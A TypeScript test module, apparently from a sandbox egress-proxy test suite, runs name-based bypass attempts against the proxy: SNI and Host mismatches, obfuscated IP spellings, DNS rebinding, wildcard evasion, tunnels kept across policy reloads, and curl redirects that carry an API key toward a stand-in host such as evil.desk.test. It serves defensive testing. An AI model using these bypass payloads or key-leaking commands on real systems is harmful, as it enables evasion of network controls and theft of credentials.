// ATTACKS A7–A12: names that say one thing to the one who decides and another to the one who connects; redirects; reload.
import { randomBytes } from 'node:crypto';
import { existsSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { type Attack, type Variant, variant } from './attack.js';
import { encryptedHello } from './encrypted-hello.js';
import { withLiar } from './lying-name.js';
import type { Place } from './place.js';
import { proxyOf, usualHosts, type World } from './world.js';

interface Dressed {
  name: string;
  target?: string;
  servername?: string;
  send: string;
  /** True to come in by DNS and TLS, without CONNECT. */
  isTransparent?: boolean;
}

/** Throws unless the honest request passes: otherwise nothing is proven by the others. */
async function assertProxyWorks(place: Place, world: World): Promise<void> {
  const send = 'GET /honest HTTP/1.1\r\nHost: mirror.desk.test\r\n\r\n';
  const [answer = ''] = await sendDressed(place, world, [{ name: 'honest', send }]);
  if (!answer.startsWith('HTTP/1.1 200'))
    throw new Error(`the honest request is not answered: ${answer.slice(0, 60)}`);
}

/** Sends each through the place's proxy, or by DNS; the marks in the requests tell which arrived. */
async function sendDressed(place: Place, world: World, cases: readonly Dressed[]): Promise<string[]> {
  return place.run(
    (tools, { list, proxy, isBox }) =>
      Promise.all(
        list.map(({ target, servername, send, isTransparent }) =>
          tools.tls({
            host: 'mirror.desk.test',
            ...(isTransparent === true && isBox ? {} : { proxy, target: target ?? 'mirror.desk.test:443' }),
            ...(servername === undefined ? {} : { servername }),
            send,
            timeoutMs: 3000,
          }),
        ),
      ),
    { list: [...cases], proxy: proxyOf(place, world), isBox: place.kind === 'box' },
  );
}

/** Which of the marked requests any upstream saw. */
function arrivals(
  world: World,
  cases: readonly Dressed[],
  answers: readonly string[],
  mark: string,
): Variant[] {
  return cases.map(({ name }, index) => {
    const isThere = world.seen(`${mark}-${index}-`).length > 0;
    const [line = ''] = (answers[index] ?? '').split('\r\n');
    return variant(name, isThere && `${name}: the upstream was reached (${line})`, line || 'no answer');
  });
}

const a7: Attack = {
  id: 'A7',
  title: 'CONNECT to an allowed host, then another SNI or Host; absolute-form mismatch; no SNI; ECH',
  setting: 'a proxy that judges the name in CONNECT alone',
  attempt: mixedNames,
  control: (world) => mixedNames(world.plain, world),
};

async function mixedNames(place: Place, world: World): Promise<Variant[]> {
  await assertProxyWorks(place, world);
  const mark = randomBytes(6).toString('hex');
  const get = (index: number, host: string, target = '/open/') =>
    `GET ${target}${mark}-${index}- HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
  const mirror = 'mirror.desk.test';
  const cases: Dressed[] = [
    { name: 'CONNECT allowed, SNI unlisted', servername: 'evil.desk.test', send: get(0, mirror) },
    {
      name: 'CONNECT allowed, SNI of another allowed host',
      servername: 'other.desk.test',
      send: get(1, mirror),
    },
    { name: 'SNI allowed, Host unlisted', send: get(2, 'evil.desk.test') },
    { name: 'SNI allowed, Host of another allowed host', send: get(3, 'other.desk.test') },
    { name: 'the same without CONNECT', isTransparent: true, send: get(4, 'evil.desk.test') },
    { name: 'no SNI', servername: '', send: get(5, mirror) },
    { name: 'no SNI, without CONNECT', servername: '', isTransparent: true, send: get(6, mirror) },
    { name: 'absolute form of another host', send: get(7, mirror, 'https://evil.desk.test/open/') },
    {
      name: 'absolute form with a user',
      send: get(8, mirror, 'https://mirror.desk.test@evil.desk.test/open/'),
    },
    { name: 'Host with another port', send: get(9, `${mirror}:8443`) },
    { name: 'Host twice', send: get(10, `${mirror}\r\nHost: evil.desk.test`) },
    { name: 'no Host', send: `GET /open/${mark}-11- HTTP/1.1\r\n\r\n` },
  ];
  const arrived = arrivals(world, cases, await sendDressed(place, world, cases), mark);
  return [...arrived, ...(await encryptedHello(place, world))];
}

const a8: Attack = {
  id: 'A8',
  title: 'CONNECT to an address in every spelling; userinfo, dots, case, punycode, ports',
  setting: 'a proxy that judges the text of the name alone',
  attempt: spelledTargets,
  control: (world) => spelledTargets(world.plain, world),
};

async function spelledTargets(place: Place, world: World): Promise<Variant[]> {
  await assertProxyWorks(place, world);
  const address = place.hostAddress;
  const { tlsPort } = world.upstreams;
  const parts = address.split('.').map(Number);
  const [a = 0, b = 0, c = 0, d = 0] = parts;
  const number = ((a * 256 + b) * 256 + c) * 256 + d;
  const mark = randomBytes(6).toString('hex');
  const hosts = [
    address,
    `${address}.`,
    String(number),
    `0x${number.toString(16)}`,
    `0${number.toString(8)}`,
    parts.map((part) => `0x${part.toString(16)}`).join('.'),
    parts.map((part) => `0${part.toString(8)}`).join('.'),
    `${a}.${b}.${c * 256 + d}`,
    `[::ffff:${address}]`,
    `mirror.desk.test@${address}`,
    `${address}%23.mirror.desk.test`,
    'mirror.desk.test.evil.test',
    'evil.test#.mirror.desk.test',
    'evil-mirror.desk.test',
    'mirror.desk.test..',
    '.mirror.desk.test',
    'mirror。desk.test',
    'xn--mirror-.desk.test',
    'mirror.desk.test%00.evil.test',
  ];
  const targets = [
    ...hosts.map((host) => `${host}:${/mirror/.test(host) ? 443 : tlsPort}`),
    'mirror.desk.test:22',
    'mirror.desk.test:0443',
    'mirror.desk.test:65979',
    'localhost:443',
    '127.0.0.1:443',
    `${world.sidecarAddress}:3128`,
  ];
  const cases = targets.map((target, index) => ({
    name: `CONNECT ${target}`,
    target,
    send: `GET /${mark}-${index}- HTTP/1.1\r\nHost: mirror.desk.test\r\n\r\n`,
  }));
  return arrivals(world, cases, await sendDressed(place, world, cases), mark);
}

const a9: Attack = {
  id: 'A9',
  title: 'rebinding: an allowed name that answers a private address upstream',
  // Looks for its refusal in the journal.
  isApart: true,
  setting: 'the same address, opened by the user with a pin',
  async attempt(place, world) {
    return withLiar(world, async (heard) => {
      const events = (await world.box.journal()).length;
      const answer = await place.run(
        (tools) =>
          tools.tls({
            host: 'rebind.desk.test',
            send: 'GET /rebound HTTP/1.1\r\nHost: rebind.desk.test\r\n\r\n',
          }),
        null,
      );
      const codes = (await world.journalSince(events)).map((event) =>
        String(event.error ?? event.code ?? ''),
      );
      const isRefused = codes.includes('UPSTREAM_ADDRESS_FORBIDDEN');
      if (!isRefused && heard() === '')
        throw new Error(`the name was not resolved to the liar: ${codes.join(' ')}`);
      const [line = ''] = answer.split('\r\n');
      return [
        variant('a container beside the sidecar', heard() && 'it was dialled', 'UPSTREAM_ADDRESS_FORBIDDEN'),
        variant('the answer', line.includes(' 200') && 'an answer came', line),
      ];
    });
  },
  async control(world) {
    const mark = randomBytes(6).toString('hex');
    await world.inBox.run(
      (tools, path) =>
        tools.tls({
          host: 'mirror.desk.test',
          send: `GET /${path} HTTP/1.1\r\nHost: mirror.desk.test\r\n\r\n`,
        }),
      mark,
    );
    return [variant('a pinned name', world.seen(mark).length > 0 && 'its private address was dialled')];
  },
};

const a10: Attack = {
  id: 'A10',
  title: 'a wildcard *.x matches neither x nor evil-x nor x.evil',
  setting: 'a proxy that looks at the end of the name',
  attempt: besideWildcard,
  control: (world) => besideWildcard(world.plain, world),
};

async function besideWildcard(place: Place, world: World): Promise<Variant[]> {
  const hosts = [
    'wild.desk.test',
    'evil-wild.desk.test',
    'xwild.desk.test',
    'wild.desk.test.evil.test',
    'a.wild.desk.test.evil.test',
    '-.wild.desk.test',
    '*.wild.desk.test',
    'a..wild.desk.test',
  ];
  const opened = await place.run(
    (tools, { list, proxy }) =>
      Promise.all(
        list.map(async (host) => {
          const [address = '', port] = proxy.split(':');
          const answer = await tools.tcp(
            address,
            Number(port),
            `CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`,
            1000,
          );
          return answer?.split('\r\n')[0] ?? 'no connection';
        }),
      ),
    { list: ['a.wild.desk.test', ...hosts], proxy: proxyOf(place, world) },
  );
  // What the rule does name must pass, or nothing was asked.
  if (!opened[0]?.includes(' 200')) throw new Error(`a.wild.desk.test does not pass: ${opened[0]}`);
  return hosts.map((host, index) => {
    const line = opened[index + 1] ?? '';
    return variant(`CONNECT ${host}`, line.includes(' 200') && `${host} was let through`, line);
  });
}

const a11: Attack = {
  id: 'A11',
  title: 'redirect to another host: credentials never follow',
  control: 'plain',
  async attempt(place, world) {
    const mark = randomBytes(6).toString('hex');
    const { host, port, address } = place.upstream('mirror.desk.test');
    const other = place.upstream('other.desk.test');
    const base = (name: string) => `https://${name}${port === 443 ? '' : `:${port}`}`;
    const lead =
      address === undefined
        ? ''
        : [host, other.host].map((name) => `--resolve ${name}:${port}:${address}`).join(' ');
    const to = (index: number) => encodeURIComponent(`${base(other.host)}/open/${mark}-${index}-`);
    const curl = `curl -ksSL -m 15 --location-trusted ${lead} -H "authorization: Bearer $API_KEY"`;
    const lines = {
      '--location-trusted': `${curl} '${base(host)}/redirect?to=${to(0)}'`,
      'key in the query': `${curl} '${base(host)}/redirect?to='"$(printf %s '${to(1)}' | sed "s/$/?k=$API_KEY/")"`,
      'POST followed': `${curl} -X POST --post301 --post302 -d x=1 '${base(host)}/redirect?to=${to(2)}'`,
    };
    const codes = await place.run(
      (tools, all) =>
        Promise.all(Object.values(all).map(async (line) => (await tools.sh(line)).output.slice(0, 80))),
      lines,
    );
    const values = [world.secrets.api, await keyOf(place)];
    return Object.keys(lines).map((name, index) => {
      const texts = world
        .seen(`/open/${mark}-${index}-`)
        .filter((text) => !text.startsWith('GET /redirect') && !text.startsWith('POST /redirect'));
      const leaked = texts.some((text) => values.some((value) => text.includes(value)));
      return variant(name, leaked && `${name}: the key arrived at the other host`, codes[index] ?? '');
    });
  },
};

export const keyOf = (place: Place, name = 'API_KEY'): Promise<string> => place.variable(name);

const a12: Attack = {
  id: 'A12',
  title: 'a tunnel opened before a reload that denies it; an invalid policy',
  isApart: true,
  setting: 'the same tunnel before the reload',
  async attempt(_place, world) {
    return withLiar(world, async () => {
      const after = await throughTunnel(world, async () => {
        world.writeConfig(usualHosts.filter((entry) => !entry.includes('rebind')));
        await world.home.ok(['policy', 'reload', world.box.name]);
      });
      world.home.writeConfig('version: 1\nhosts:\n  - { host: "not..a..host", reason: "broken" }\n');
      const broken = await world.home.run(['policy', 'reload', world.box.name]);
      const status = (host: string) =>
        world.inBox.sh(`curl -sS -m 4 -o /dev/null -w %{http_code} https://${host}/`);
      const [denied, kept] = await Promise.all([status('rebind.desk.test'), status('mirror.desk.test')]);
      world.writeConfig();
      await world.home.ok(['policy', 'reload', world.box.name]);
      return [
        variant(
          'a request in the old tunnel',
          after !== '' && `it was dealt with: ${after.slice(0, 40)}`,
          'closed',
        ),
        variant('an invalid file', broken.code === 0 && 'it was taken', `exit ${broken.code}`),
        variant('the old policy', denied.code === 0 && 'what it denied passed', `exit ${denied.code}`),
        variant(
          'what it allowed',
          kept.stdout !== '200' && `it no longer passes: ${kept.stdout}`,
          'still passes',
        ),
      ];
    });
  },
  async control(world) {
    return withLiar(world, async () => {
      const after = await throughTunnel(world, async () => {});
      // The way is open: only the address that the name leads to is refused.
      return [variant('a request in the old tunnel', / 502 /.test(after) && 'it went upstream', after)];
    });
  },
};

/** Opens a tunnel to a host, acts, then asks through it: what came back. */
async function throughTunnel(world: World, act: () => Promise<void>): Promise<string> {
  const flags = ['tunnel-open', 'tunnel-go'].map((name) => path.join(world.workdir, name));
  const [open = '', go = ''] = flags;
  const answer = world.inBox.run(async (tools, proxy) => {
    const fs = tools.require('node:fs') as typeof import('node:fs');
    const net = tools.require('node:net') as typeof import('node:net');
    const tls = tools.require('node:tls') as typeof import('node:tls');
    const [address, port] = proxy.split(':');
    const host = 'rebind.desk.test';
    const raw = net.connect(Number(port), address);
    raw.write(`CONNECT ${host}:443 HTTP/1.1\r\nHost: ${host}:443\r\n\r\n`);
    await new Promise((resolve) => raw.once('data', resolve));
    const socket = tls.connect({ socket: raw, servername: host, rejectUnauthorized: false });
    socket.on('error', () => {});
    let text = '';
    socket.on('data', (chunk) => {
      text += chunk.toString('latin1');
    });
    const ask = () => socket.write(`GET /tunnel HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    const wait = async (test: () => boolean) => {
      for (let tries = 0; tries < 400 && !test(); tries += 1)
        await new Promise((resolve) => setTimeout(resolve, 20));
    };
    ask();
    await wait(() => text.includes(' 502 '));
    if (!text.includes(' 502 ')) throw new Error(`the tunnel never worked: ${text}`);
    fs.writeFileSync('/workspace/tunnel-open', '');
    await wait(() => fs.existsSync('/workspace/tunnel-go'));
    text = '';
    ask();
    for (let tries = 0; tries < 25 && text === '' && !socket.destroyed; tries += 1)
      await new Promise((resolve) => setTimeout(resolve, 20));
    return text;
  }, `${world.sidecarAddress}:3128`);
  try {
    const isOpen = await Promise.race([appears(open), answer.then(() => false)]);
    if (isOpen) await act();
    writeFileSync(go, '');
    return await answer;
  } finally {
    for (const flag of flags) rmSync(flag, { force: true });
  }
}

async function appears(file: string): Promise<boolean> {
  for (let tries = 0; tries < 500; tries += 1) {
    if (existsSync(file)) return true;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return false;
}

export const nameAttacks: readonly Attack[] = [a7, a8, a10, a11, a9, a12];
